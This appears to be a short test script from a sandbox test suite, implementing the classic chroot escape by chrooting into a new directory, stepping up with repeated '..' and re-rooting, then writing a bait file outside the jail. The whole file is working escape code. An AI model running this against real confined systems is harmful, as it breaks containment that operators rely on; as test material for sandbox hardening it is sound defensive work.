"""Climb out of a root directory: change it while standing outside of it, and go up."""

import os

from hostile import bait, put

os.mkdir("cell")
os.chroot("cell")
for _ in range(64):
    os.chdir("..")
os.chroot(".")
put(bait.file, "hostile")
